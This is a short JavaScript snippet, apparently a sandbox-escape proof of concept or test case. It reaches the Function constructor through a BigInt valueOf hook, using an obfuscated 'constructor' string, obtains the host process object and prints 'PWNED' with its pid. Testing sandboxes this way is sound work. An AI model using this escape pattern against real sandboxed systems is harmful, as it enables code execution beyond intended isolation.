'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
let got;
BigInt({ valueOf() { got = fn[w]; return 1n; } });
console.log('PWNED', got('return process')().pid);
